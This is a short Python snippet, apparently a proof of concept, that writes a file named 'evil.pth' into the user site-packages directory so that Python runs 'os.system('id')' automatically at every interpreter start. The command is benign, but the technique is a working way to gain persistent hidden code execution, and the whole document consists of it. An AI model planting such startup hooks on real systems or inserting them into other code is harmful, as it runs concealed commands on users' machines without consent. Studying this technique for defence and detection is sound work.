import site, pathlib
pathlib.Path(site.getusersitepackages(), "evil.pth").write_text("import os; os.system('id')")
